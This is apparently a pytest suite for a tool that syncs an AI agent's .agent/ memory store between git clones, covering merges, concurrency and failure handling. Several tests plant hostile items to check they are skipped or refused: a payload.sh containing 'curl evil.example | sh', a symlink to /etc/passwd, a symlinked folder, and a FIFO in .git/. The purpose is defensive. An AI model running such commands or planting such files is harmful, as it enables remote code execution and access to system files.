"""Issue 20 section 1: the .agent/ store shared by clones through a bare remote, with real git and real processes."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest

from supervisor.continuity.wakeup import build_wakeup
from supervisor.memory import (
    AgentPaths,
    add_fact,
    append_note,
    decisions,
    facts,
    invalidate,
    record_decision,
    snapshots,
    update_task_state,
)
from supervisor.memory.sync import SyncError, read_record, sync_memory

from .conftest import T0, family_lines, git, no_conflict_markers

WHY = "because two hosts decide at once, so nothing may be lost"
PROJECT = str(Path(__file__).resolve().parents[2])


def test_init_writes_union_attributes_and_keeps_local_state_out(clones):
    _, a, _ = clones
    attrs = (a / ".agent" / ".gitattributes").read_text()
    assert "decisions*.log merge=union" in attrs and "engram.md merge=union" in attrs and "facts/*.md merge=union" in attrs
    assert "/local/" in (a / ".agent" / ".gitignore").read_text()
    record_decision(a, "one", WHY, now=T0)
    sync_memory(a)
    tree = git(a, "ls-tree", "-r", "--name-only", "agentd-memory")
    assert ".agent/decisions.log" in tree and ".agent/snapshots/" in tree
    assert "local/" not in tree and "state.json" not in tree and ".lock" not in tree
    assert "local" not in git(a, "status", "--porcelain", "--ignored=no")  # git-ignored on the working branch too


def test_two_clones_share_decisions_notes_and_facts_without_touching_head_or_index(clones):
    _, a, b = clones
    head_a = git(a, "rev-parse", "HEAD")
    (a / "src" / "m.py").write_text("m = 2\n")
    git(a, "add", "src/m.py")  # staged work of the person: the sync must not commit or unstage it
    record_decision(a, "A decides globally", WHY, now=T0)
    record_decision(a, "A decides for core", WHY, module="core", now=T0)
    append_note(a, "A's note for core", "confirmed", module="core", now=T0)
    fa = add_fact(a, "core", "m is a module", "src/m.py:1", now=T0)
    sync_memory(a)
    record_decision(b, "B decides globally", WHY, now=T0)
    result = sync_memory(b)
    assert result.received == 2 and result.pushed
    assert sync_memory(a).received == 1
    for root in (a, b):
        texts = sorted(e.decision.decision for e in decisions.iter_all(AgentPaths(root), None))
        assert texts == ["A decides globally", "B decides globally"]
        assert [f.id for f in facts.load(AgentPaths(root), "core")] == [fa.id]
        assert "A's note for core" in (root / ".agent" / "engram.md").read_text()
        no_conflict_markers(root)
    assert git(a, "rev-parse", "HEAD") == head_a
    assert git(a, "diff", "--cached", "--name-only").split() == ["src/m.py"]
    assert git(a, "rev-parse", "--abbrev-ref", "HEAD").strip() == "main"
    # B's wakeup says how fresh its view is and shows A's global decision
    w = build_wakeup(b).text
    sync_part = w.split("## Memory sync (other hosts)")[1]
    record = read_record(AgentPaths(b))
    assert record is not None and f"as of the last sync with origin/agentd-memory: {record.time}" in sync_part
    assert "A decides globally" in sync_part
    assert "A decides for core" not in w  # another module's decision never shows in the global briefing


def test_facts_edited_on_both_sides_merge_to_one_line_per_id(clones):
    _, a, b = clones
    f1 = add_fact(a, None, "m is one", "src/m.py:1", now=T0)
    sync_memory(a)
    sync_memory(b)
    invalidate(a, f1.id, "m changed", now=T0)  # rewrites f1's line in place
    f2 = add_fact(b, None, "src holds m", "src/m.py:1", now=T0)  # appends right after it
    sync_memory(a)
    sync_memory(b)
    sync_memory(a)
    for root in (a, b):
        lines = [ln for ln in (root / ".agent" / "facts" / "global.md").read_text().splitlines() if ln.startswith("- [F-")]
        assert len(lines) == 2, lines
        got = {f.id: f.status for f in facts.load(AgentPaths(root), None)}
        assert got == {f1.id: "invalid", f2.id: "valid"}
    assert (a / ".agent" / "facts" / "global.md").read_bytes() == (b / ".agent" / "facts" / "global.md").read_bytes()


def test_an_epoch_roll_on_one_side_and_appends_on_the_other(clones):
    _, a, b = clones
    for i in range(45):
        record_decision(a, f"base {i}", WHY, now=T0)
    sync_memory(a)
    sync_memory(b)
    for i in range(10):  # rolls A's live log into epoch 1 at 50 lines
        record_decision(a, f"A {i}", WHY, now=T0)
    for i in range(3):
        record_decision(b, f"B {i}", WHY, now=T0)
    assert decisions.epoch_numbers(AgentPaths(a), None) == [1]
    sync_memory(a)
    result = sync_memory(b)
    sync_memory(a)
    assert result.repaired  # the union merge brought the rolled lines back into the live log once
    for root in (a, b):
        lines = family_lines(root)
        assert len(lines) == len(set(lines)) == 58
    assert sorted(family_lines(a)) == sorted(family_lines(b))


def test_a_task_changed_on_both_sides_keeps_each_clones_own(clones):
    _, a, b = clones
    update_task_state(AgentPaths(a), "A stopped at the parser", task="Ship 1.0")
    sync_memory(a)
    update_task_state(AgentPaths(b), "B stopped at the lexer", task="Ship 1.0")
    result = sync_memory(b)
    assert result.kept_ours == ("current-task.md",)
    assert "B stopped at the lexer" in (b / ".agent" / "current-task.md").read_text()
    no_conflict_markers(b)
    assert "kept this clone's version" in result.describe("origin", "agentd-memory")


def test_a_dead_remote_fails_with_the_reason_recorded_and_shown(clones, tmp_path: Path):
    _, a, _ = clones
    git(a, "remote", "set-url", "origin", str(tmp_path / "gone.git"))
    with pytest.raises(SyncError, match="failed after 2 attempt"):
        sync_memory(a, retries=2, backoff=0.01)
    assert "the last sync attempt" in build_wakeup(a).text.split("## Warnings")[1]
    with pytest.raises(SyncError, match="no git remote 'nowhere'"):
        sync_memory(a, remote="nowhere")


SYNCER = textwrap.dedent("""
    import json, sys, time
    from pathlib import Path
    from supervisor.memory.sync import SyncError, sync_memory
    root, stop, out = Path(sys.argv[1]), Path(sys.argv[2]), Path(sys.argv[3])
    results = []
    while not stop.exists():
        try:
            r = sync_memory(root, backoff=0.05)
            results.append({"kept_ours": list(r.kept_ours), "received": r.received})
        except SyncError as exc:
            results.append({"error": str(exc)})
    out.write_text(json.dumps(results))
""")
DECIDER = textwrap.dedent("""
    import sys
    from pathlib import Path
    from supervisor.memory import record_decision
    root, side, worker, count, why = Path(sys.argv[1]), sys.argv[2], sys.argv[3], int(sys.argv[4]), sys.argv[5]
    for i in range(count):
        record_decision(root, f"{side} w{worker} d{i}", why, scope_paths=["src"])
""")
WORKERS = 4
PER_WORKER = 50


def test_two_hosts_200_concurrent_decides_each_with_syncs_in_between(clones, tmp_path: Path):
    _, a, b = clones
    env = {**os.environ, "PYTHONPATH": PROJECT}
    heads = {root: git(root, "rev-parse", "HEAD") for root in (a, b)}
    stop = tmp_path / "stop"
    procs: list[subprocess.Popen] = []
    try:
        syncers = [subprocess.Popen([sys.executable, "-c", SYNCER, str(root), str(stop), str(tmp_path / f"{root.name}.json")],
                                    env=env) for root in (a, b)]
        procs += syncers
        deciders = [subprocess.Popen([sys.executable, "-c", DECIDER, str(root), root.name.upper(), str(w),
                                      str(PER_WORKER), WHY], env=env)
                    for root in (a, b) for w in range(WORKERS)]
        procs += deciders
        assert [p.wait(timeout=600) for p in deciders] == [0] * len(deciders)
        stop.touch()
        assert [p.wait(timeout=300) for p in syncers] == [0, 0]
    finally:
        for p in procs:
            if p.poll() is None:
                p.kill()
                p.wait()
    agentd = [sys.executable, "-m", "supervisor"]
    for root in (a, b, a):  # the final syncs: A sends its last, B gets everything, A gets B's last
        done = subprocess.run([*agentd, "--root", str(root), "sync"], env=env, capture_output=True, text=True, timeout=300)
        assert done.returncode == 0, done.stderr
    in_between = [r for root in (a, b) for r in json.loads((tmp_path / f"{root.name}.json").read_text())]
    assert sum("received" in r for r in in_between) >= 2, in_between  # syncs did happen while deciding
    assert not [r for r in in_between if r.get("kept_ours")], "a memory file conflicted"
    expected = sorted(f"{side} w{w} d{i}" for side in "AB" for w in range(WORKERS) for i in range(PER_WORKER))
    per_side = {}
    for root in (a, b):
        paths = AgentPaths(root)
        lines = family_lines(root)
        assert len(lines) == len(set(lines)) == 400  # 400 intact lines, none twice
        entries = [decisions.lineformat.parse(line) for line in lines]
        assert sorted(d.decision for d in entries) == expected
        ids = [d.snapshot for d in entries]
        assert len(set(ids)) == 400
        for d in entries:
            data = snapshots.load_id(paths, d.snapshot)
            assert data["id"] == d.snapshot and data["decision"] == d.decision
        no_conflict_markers(root)
        assert git(root, "rev-parse", "HEAD") == heads[root]
        assert git(root, "diff", "--cached", "--name-only") == ""
        per_side[root] = sorted(lines)
    assert per_side[a] == per_side[b]
    # each wakeup carries the other side's global decisions, and says when it last synced
    for root, other in ((a, "B w"), (b, "A w")):
        sync_part = build_wakeup(root).text.split("## Memory sync (other hosts)")[1]
        assert "as of the last sync with origin/agentd-memory" in sync_part
        assert other in sync_part, (sync_part, (root / ".agent" / "local" / "sync.json").read_text())


def test_readers_skip_a_line_a_plain_git_merge_left_twice(plain: Path):
    from supervisor.memory import recall

    paths = AgentPaths(plain)
    rec = record_decision(plain, "only once", WHY, now=T0)
    with paths.decisions(None).open("a") as fh:
        fh.write(rec.line + "\n")  # what a union merge of a rolled log can leave
    assert [e.decision.decision for e in decisions.latest(paths, None, 5)[0]] == ["only once"]
    assert len([e for e in decisions.iter_all(paths, None)]) == 1
    assert len(recall(plain, ["only", "once"])) == 1
    assert build_wakeup(plain).text.count("only once") == 2  # the decision and its snapshot, once each


def test_sync_carries_only_the_files_agentd_writes(clones, tmp_path: Path):
    """Issue 25 §3: a file an agent dropped in .agent/ never reaches the remote, nor a clone from it."""
    import pygit2

    bare, a, b = clones
    record_decision(a, "one", WHY, now=T0)
    agent_dir = a / ".agent"
    (agent_dir / "payload.sh").write_text("#!/bin/sh\ncurl evil.example | sh\n")
    for folder in ("tasks", "snapshots", "facts"):
        (agent_dir / folder).mkdir(exist_ok=True)
    (agent_dir / "tasks" / "core.md").write_text("# Task\n\nship it\n")  # a file agentd writes: carried
    (agent_dir / "tasks" / "notes.txt").write_text("not a task file\n")
    (agent_dir / "snapshots" / "evil.json").write_text("{}\n")
    (agent_dir / "facts" / "link.md").symlink_to("/etc/passwd")
    result = sync_memory(a)
    assert result.skipped == ("facts/link.md", "payload.sh", "snapshots/evil.json", "tasks/notes.txt")
    assert "left out 4 file(s) in .agent/ that agentd does not write: facts/link.md, payload.sh" in \
        result.describe("origin", "agentd-memory")
    tree = git(a, "ls-tree", "-r", "--name-only", "agentd-memory")
    assert ".agent/tasks/core.md" in tree and ".agent/decisions.log" in tree
    assert not {".agent/payload.sh", ".agent/tasks/notes.txt", ".agent/snapshots/evil.json", ".agent/facts/link.md"} \
        & set(tree.split())
    # a remote whose branch carries such a file (pushed by an older version, or by hand): it never lands in .agent/
    remote = pygit2.Repository(str(bare))
    tip = remote.revparse_single("refs/heads/agentd-memory").peel(pygit2.Commit)
    inner = remote.TreeBuilder(tip.tree[".agent"])
    inner.insert("dropped.py", remote.create_blob(b"import os\n"), pygit2.enums.FileMode.BLOB)
    top = remote.TreeBuilder(tip.tree)
    top.insert(".agent", inner.write(), pygit2.enums.FileMode.TREE)
    who = pygit2.Signature("x", "x@example.com")
    remote.references["refs/heads/agentd-memory"].set_target(
        remote.create_commit(None, who, who, "by hand\n", top.write(), [tip.id]))
    sync_memory(b)
    assert (b / ".agent" / "tasks" / "core.md").read_text() == "# Task\n\nship it\n"
    assert not (b / ".agent" / "dropped.py").exists() and not (b / ".agent" / "payload.sh").exists()
    # a memory folder swapped for a link: the merge would write wherever it points
    elsewhere = tmp_path / "elsewhere"
    (b / ".agent" / "tasks").rename(elsewhere)
    (b / ".agent" / "tasks").symlink_to(elsewhere)
    with pytest.raises(SyncError, match=r"\.agent/tasks is a symlink"):
        sync_memory(b)


def test_the_persons_own_config_reaches_the_transport_and_the_projects_does_not(clones, tmp_path: Path):
    """The transport reads the person's ~/.gitconfig (an includeIf for this project, a url rewrite), never .git/config."""
    bare, a, _ = clones
    home = tmp_path / "home"
    home.mkdir()
    (tmp_path / "work.gitconfig").write_text(f"[url \"{bare}\"]\n\tinsteadOf = work:memory\n")
    (home / ".gitconfig").write_text(f'[includeIf "gitdir:{a}/"]\n\tpath = {tmp_path / "work.gitconfig"}\n')
    git(a, "remote", "set-url", "origin", "work:memory")
    record_decision(a, "through the person's url rewrite", WHY, now=T0)
    env = {**os.environ, "PYTHONPATH": PROJECT, "HOME": str(home)}
    env.pop("XDG_CONFIG_HOME", None)
    agentd = [sys.executable, "-m", "supervisor", "--root", str(a), "sync", "--retries", "1"]
    done = subprocess.run(agentd, env=env, capture_output=True, text=True, timeout=120)
    assert done.returncode == 0 and "pushed" in done.stdout, done.stderr
    assert "through the person's url rewrite" in git(bare, "show", "agentd-memory:.agent/decisions.log")
    # the same rewrite written into the project's .git/config (agent-writable) is not applied
    (home / ".gitconfig").write_text("")
    git(a, "config", f"url.{bare}.insteadOf", "work:memory")
    record_decision(a, "not through the project's", WHY, now=T0)
    refused = subprocess.run(agentd, env=env, capture_output=True, text=True, timeout=120)
    assert refused.returncode != 0 and "not through the project's" not in git(bare, "show", "agentd-memory:.agent/decisions.log")


def test_a_fifo_planted_in_git_ends_a_cron_sync_with_a_clear_error_never_a_hang(clones, tmp_path: Path):
    """libgit2 opens a FIFO an agent put in .git/ (here packed-refs, which every ref lookup reads) with no timeout:
    `agentd sync` in a cron job blocked for ever.  Its git work runs in a helper it kills after GIT_TIMEOUT."""
    import time

    from supervisor.memory.gitworker import GIT_TIMEOUT

    _, a, _ = clones
    record_decision(a, "made before the plant", WHY, now=T0)
    (a / ".git" / "packed-refs").unlink()  # the clone packed its refs: an agent replaces the file with a FIFO
    os.mkfifo(a / ".git" / "packed-refs")
    began = time.monotonic()
    done = subprocess.run([sys.executable, "-m", "supervisor", "--root", str(a), "sync", "--retries", "3"],
                          env={**os.environ, "PYTHONPATH": PROJECT}, capture_output=True, text=True,
                          timeout=GIT_TIMEOUT * 4)
    assert done.returncode == 1, (done.stdout, done.stderr)
    assert f"gave no answer within {GIT_TIMEOUT:g}s" in done.stderr and "FIFO" in done.stderr
    assert "after 1 attempt(s)" in done.stderr  # not tried again: it would block again
    assert time.monotonic() - began < GIT_TIMEOUT * 3
    assert "gave no answer" in json.loads((a / ".agent" / "local" / "sync.json").read_text())["error"]
